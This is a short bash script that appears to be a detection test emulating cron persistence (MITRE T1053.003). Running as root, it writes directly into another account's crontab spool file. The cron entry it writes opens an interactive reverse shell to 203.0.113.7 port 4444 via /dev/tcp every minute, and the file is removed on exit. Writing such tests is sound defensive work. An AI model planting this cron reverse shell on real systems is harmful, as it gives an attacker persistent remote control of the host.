#!/usr/bin/env bash
# tactic: persistence
# technique: T1053.003 Scheduled Task/Job: Cron
# behaviour: an admin writes straight into another account's crontab spool file, bypassing the crontab tool
# as: root
# expect: persistence
set -u
f=/var/spool/cron/crontabs/$SNTL_VICTIM
trap 'rm -f "$f"' EXIT
mkdir -p /var/spool/cron/crontabs
printf '* * * * * /bin/sh -c "sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n' > "$f"
